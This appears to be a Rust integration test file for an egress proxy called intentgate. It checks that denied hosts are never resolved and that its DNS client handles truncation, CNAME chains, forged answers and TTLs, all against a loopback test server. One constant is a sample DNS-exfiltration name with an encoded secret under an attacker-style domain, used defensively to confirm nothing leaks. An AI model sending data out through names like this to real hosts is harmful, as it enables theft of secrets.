//! Resolution: nothing denied is ever looked up (forward, spliced and intercepted CONNECT), and
//! the `dns.servers` client against a DNS server the test runs (tests/clients/dns_server.py, on
//! loopback): TCP after a truncated answer, CNAME chains (bounded), answers that do not belong to
//! the question ignored, TTLs honoured.

use std::net::UdpSocket;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use crate::common::tls::TestCa;
use crate::common::*;

/// The test DNS server: answers from `plan`, logs every query it gets.
struct Dns {
    child: Child,
    port: u16,
    log: PathBuf,
    _dir: tempfile::TempDir,
}

impl Dns {
    fn start(plan: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let port_file = dir.path().join("port");
        let log = dir.path().join("queries.log");
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/clients/dns_server.py");
        let child = Command::new("python3")
            .args([script, port_file.to_str().unwrap(), plan])
            .arg(&log)
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        let port = eventually("the test DNS server", Duration::from_secs(10), || {
            std::fs::read_to_string(&port_file)
                .ok()
                .and_then(|p| p.trim().parse().ok())
        });
        Self {
            child,
            port,
            log,
            _dir: dir,
        }
    }

    /// The `dns:` config line that makes intentgate ask this server.
    fn config(&self) -> String {
        format!(
            "dns: {{servers: [\"127.0.0.1:{}\"], cache_ttl_ms: 60000}}\n",
            self.port
        )
    }

    /// The queries for `name` so far, as (type, transport).
    fn asked(&self, name: &str) -> Vec<(String, String)> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .filter(|q| q["name"] == name)
            .map(|q| {
                let s = |v: &serde_json::Value| v.as_str().unwrap_or_default().to_string();
                (s(&q["type"]), s(&q["transport"]))
            })
            .collect()
    }

    /// How many A queries for `name` came (one per resolution: AAAA goes alongside).
    fn lookups(&self, name: &str) -> usize {
        self.asked(name).iter().filter(|(t, _)| t == "A").count()
    }
}

impl Drop for Dns {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A catalog allowing only `allowed.test` at `port`, as the default intent, asking `dns`.
fn proxy_allowing(dns: &Dns, port: u16, extra: &str) -> ProxyProc {
    ProxyProc::start(&format!(
        "intent: web\nintents:\n  web:\n    allow:\n      - hosts: [allowed.test]\n        ports: [{port}]\n{}{extra}",
        dns.config()
    ))
}

/// A name that carries data out (`<secret>.attacker.example`), lowercase as intentgate asks for it.
const SECRET: &str = "c2vjcmv0.attacker.test";

fn plan_for_both() -> String {
    format!(
        r#"{{"allowed.test": [{{"ips": ["127.0.0.1"], "ttl": 300}}], "{SECRET}": [["127.0.0.1"]]}}"#
    )
}

#[test]
fn a_denied_host_is_never_looked_up_and_an_allowed_one_once() {
    let up = Upstream::start();
    let p = up.addr.port();
    let dns = Dns::start(&plan_for_both());
    let proxy = proxy_allowing(&dns, p, "");

    let denied = curl(&["-x", &proxy.url(), &format!("http://{SECRET}:{p}/echo")]);
    assert_eq!(denied.status, 403, "{denied:?}");
    assert_eq!(error_code(&denied.json()), "intent_violation", "{denied:?}");
    for _ in 0..2 {
        let ok = curl(&["-x", &proxy.url(), &format!("http://allowed.test:{p}/echo")]);
        assert_eq!(ok.status, 200, "{ok:?}");
    }
    assert_eq!(dns.asked(SECRET), vec![], "a denied name leaked to DNS");
    // One resolution (A and AAAA), the second request served from the cache.
    assert_eq!(
        dns.lookups("allowed.test"),
        1,
        "{:?}",
        dns.asked("allowed.test")
    );
    assert_eq!(up.requests(), 2);

    // Spliced CONNECT (no CA given to clients): decided on the name before any lookup.
    let refused = raw(
        proxy.addr,
        format!("CONNECT {SECRET}:{p} HTTP/1.1\r\nHost: {SECRET}:{p}\r\n\r\n").as_bytes(),
    );
    assert!(refused.starts_with("HTTP/1.1 403"), "{refused}");
    assert_eq!(raw_error_code(&refused), "intent_violation", "{refused}");
    drop(crate::connect::connect_tunnel(
        proxy.addr,
        &format!("allowed.test:{p}"),
    ));
    assert_eq!(dns.asked(SECRET), vec![], "a denied CONNECT leaked to DNS");
    assert_eq!(dns.lookups("allowed.test"), 1);
}

#[test]
fn a_denied_request_inside_an_intercepted_tunnel_is_never_looked_up() {
    let dir = tempfile::tempdir().unwrap();
    init_ca(dir.path());
    let test_ca = TestCa::new("dns test upstream CA");
    let up_ca = test_ca.write_pem(dir.path());
    let up = Upstream::start_tls(test_ca.server_config(&["allowed.test", SECRET]));
    let p = up.addr.port();
    let dns = Dns::start(&plan_for_both());
    let ca = dir.path().join("ca/ca.pem");
    let tls = format!(
        "tls: {{ca_cert: \"{}\", ca_key: \"{}\", upstream_ca: \"{}\", intercept: all}}\n",
        ca.display(),
        dir.path().join("ca/ca-key.pem").display(),
        up_ca.display()
    );
    let proxy = proxy_allowing(&dns, p, &tls);
    let get = |host: &str| {
        let url = format!("https://{host}:{p}/echo");
        curl(&["-x", &proxy.url(), "--cacert", ca.to_str().unwrap(), &url])
    };
    let denied = get(SECRET);
    assert_eq!(denied.status, 403, "{denied:?}");
    assert_eq!(error_code(&denied.json()), "intent_violation", "{denied:?}");
    // A tunnel refused at its CONNECT (a port no intent allows) answers inside it, unresolved.
    let url = format!("https://{SECRET}:8443/echo");
    let refused = curl(&["-x", &proxy.url(), "--cacert", ca.to_str().unwrap(), &url]);
    assert_eq!(refused.status, 403, "{refused:?}");
    assert_eq!(
        error_code(&refused.json()),
        "port_not_in_scope",
        "{refused:?}"
    );
    let ok = get("allowed.test");
    assert_eq!(ok.status, 200, "{ok:?}");
    assert_eq!(dns.asked(SECRET), vec![], "a denied name leaked to DNS");
    assert_eq!(dns.lookups("allowed.test"), 1);
    assert_eq!(up.requests(), 1);
}

#[test]
fn with_dns_unreachable_a_denied_call_gets_the_intent_refusal() {
    // A server that never answers: it only counts what arrives.
    let blackhole = UdpSocket::bind("127.0.0.1:0").unwrap();
    blackhole.set_nonblocking(true).unwrap();
    let port = blackhole.local_addr().unwrap().port();
    // The embedded default: enforce, an empty catalog (the README's first call).
    let proxy = ProxyProc::start(&format!(
        "mode: enforce\ndns: {{servers: [\"127.0.0.1:{port}\"]}}\nlimits: {{connect_timeout_ms: 1000}}\n"
    ));
    let out = curl(&["-x", &proxy.url(), "http://example.com/"]);
    assert_eq!(out.status, 403, "{out:?}");
    assert_eq!(error_code(&out.json()), "intent_violation", "{out:?}");
    let mut buf = [0u8; 512];
    assert!(blackhole.recv(&mut buf).is_err(), "a query was sent");
    // A call that may go does ask, and says why it failed.
    let monitor = ProxyProc::start(&format!(
        "mode: monitor\ndns: {{servers: [\"127.0.0.1:{port}\"]}}\nlimits: {{connect_timeout_ms: 1000}}\n"
    ));
    let out = curl(&["-x", &monitor.url(), "http://example.com/"]);
    assert_eq!(out.status, 502, "{out:?}");
    assert_eq!(error_code(&out.json()), "upstream_unresolvable", "{out:?}");
    eventually("the query to arrive", Duration::from_secs(10), || {
        blackhole.recv(&mut buf).ok()
    });
    // Audited as before the reorder: an error, not the would_deny the policy gave.
    let rec = &monitor.audit_n(1)[0];
    assert_eq!(rec["decision"], "error", "{rec}");
    assert_eq!(rec["error"], "upstream_unresolvable", "{rec}");
}

#[test]
fn the_resolver_retries_truncated_answers_over_tcp_and_follows_cname_chains() {
    let up = Upstream::start();
    let p = up.addr.port();
    let mut plan = serde_json::json!({
        "big.test": [{"ips": ["127.0.0.1"], "truncate": true, "ttl": 300}],
        "alias.test": [{"cname": "mid.test", "ttl": 300}],
        "mid.test": [{"cname": "real.test", "ttl": 300}],
        "real.test": [{"ips": ["127.0.0.1"], "ttl": 300}],
        "loop-a.test": [{"cname": "loop-b.test"}],
        "loop-b.test": [{"cname": "loop-a.test"}],
    });
    // A chain longer than any resolver should follow: c0 -> c1 -> ... -> c20 -> an address.
    for i in 0..20 {
        plan[format!("c{i}.test")] = serde_json::json!([{"cname": format!("c{}.test", i + 1)}]);
    }
    plan["c20.test"] = serde_json::json!([["127.0.0.1"]]);
    let dns = Dns::start(&plan.to_string());
    let proxy = ProxyProc::start(&dns.config());
    let get = |host: &str| curl(&["-x", &proxy.url(), &format!("http://{host}:{p}/echo")]);

    let big = get("big.test");
    assert_eq!(big.status, 200, "{big:?}");
    let asked = dns.asked("big.test");
    assert!(asked.contains(&("A".into(), "udp".into())), "{asked:?}");
    assert!(asked.contains(&("A".into(), "tcp".into())), "{asked:?}");

    let alias = get("alias.test");
    assert_eq!(alias.status, 200, "{alias:?}");
    assert_eq!(dns.lookups("real.test"), 1);

    for looped in ["loop-a.test", "c0.test"] {
        let out = get(looped);
        assert_eq!(out.status, 502, "{looped}: {out:?}");
        assert_eq!(error_code(&out.json()), "upstream_unresolvable", "{out:?}");
    }
    // Bounded: a handful of queries, not one per link (nor an endless loop).
    let chain: usize = (0..=20).map(|i| dns.lookups(&format!("c{i}.test"))).sum();
    assert!(
        (1..=10).contains(&chain),
        "{chain} A queries along the chain"
    );
    let loops = dns.lookups("loop-a.test") + dns.lookups("loop-b.test");
    assert!(
        (1..=10).contains(&loops),
        "{loops} A queries around the loop"
    );
    assert_eq!(up.requests(), 2);
}

#[test]
fn answers_that_do_not_belong_to_the_question_are_not_used() {
    let plan = r#"{
        "stray.test": [{"stray": {"elsewhere.test": "127.0.0.1"}}],
        "forged.test": [{"ips": ["127.0.0.1"], "question": "elsewhere.test"}]
    }"#;
    let dns = Dns::start(plan);
    let up = Upstream::start();
    let p = up.addr.port();
    let proxy = ProxyProc::start(&format!(
        "{}limits: {{connect_timeout_ms: 1500}}\n",
        dns.config()
    ));
    for host in ["stray.test", "forged.test"] {
        let out = curl(&["-x", &proxy.url(), &format!("http://{host}:{p}/echo")]);
        assert_eq!(out.status, 502, "{host}: {out:?}");
        assert_eq!(
            error_code(&out.json()),
            "upstream_unresolvable",
            "{host}: {out:?}"
        );
    }
    assert_eq!(up.requests(), 0);
}

#[test]
fn a_records_ttl_shortens_its_cache_entry() {
    let plan = r#"{"short.test": [{"ips": ["127.0.0.1"], "ttl": 1}]}"#;
    let dns = Dns::start(plan);
    let up = Upstream::start();
    let p = up.addr.port();
    // dns.cache_ttl_ms is 60 s here: only the record's own TTL (1 s) can expire the entry.
    let proxy = ProxyProc::start(&dns.config());
    let url = format!("http://short.test:{p}/echo");
    eventually(
        "a second lookup once the TTL ran out",
        Duration::from_secs(20),
        || {
            let out = curl(&["-x", &proxy.url(), &url]);
            assert_eq!(out.status, 200, "{out:?}");
            (dns.lookups("short.test") >= 2).then_some(())
        },
    );
}

#[test]
fn a_policy_that_reads_the_destination_gets_it_and_so_makes_names_resolve_first() {
    let up = Upstream::start();
    let p = up.addr.port();
    let dns = Dns::start(&plan_for_both());
    let dir = tempfile::tempdir().unwrap();
    let rego = dir.path().join("dest.rego");
    std::fs::write(
        &rego,
        "package intentgate\nimport rego.v1\n\ndeny contains sprintf(\"%s is %s\", [input.destination.ip, input.destination.class]) if {\n\
         \tinput.destination.class == \"loopback\"\n\tinput.request.path == \"/echo/not-loopback\"\n}\n",
    )
    .unwrap();
    let policy = format!("policy: {{paths: [\"{}\"]}}\n", rego.display());
    let proxy = proxy_allowing(&dns, p, &policy);
    let get =
        |host: &str, path: &str| curl(&["-x", &proxy.url(), &format!("http://{host}:{p}{path}")]);
    let refused = get("allowed.test", "/echo/not-loopback");
    assert_eq!(refused.status, 403, "{refused:?}");
    assert!(
        refused.json()["reason"]
            .as_str()
            .is_some_and(|r| r.contains("127.0.0.1 is loopback")),
        "{refused:?}"
    );
    assert_eq!(get("allowed.test", "/echo/fine").status, 200);
    // The price, documented in docs/policy.md: a denied name is looked up too.
    assert_eq!(get(SECRET, "/echo").status, 403);
    assert_eq!(dns.lookups(SECRET), 1);
    assert_eq!(dns.lookups("allowed.test"), 1);
}

#[test]
fn broken_dns_settings_are_refused_naming_file_and_field() {
    let dir = tempfile::tempdir().unwrap();
    for (text, field) in [
        ("dns: {servers: [\"127.0.0.1:0\"]}\n", "dns.servers"),
        ("dns: {servers: [resolver.example]}\n", "dns.servers"),
        ("dns: {cache_ttl_ms: 500}\n", "dns.cache_ttl_ms"),
    ] {
        let p = dir.path().join("dns.yaml");
        std::fs::write(&p, text).unwrap();
        let (code, _, stderr) = run_cli(&["check", "--config", p.to_str().unwrap()]);
        assert_eq!(code, 2, "{text}: {stderr}");
        assert!(
            stderr.contains("dns.yaml") && stderr.contains(field),
            "{stderr}"
        );
    }
}
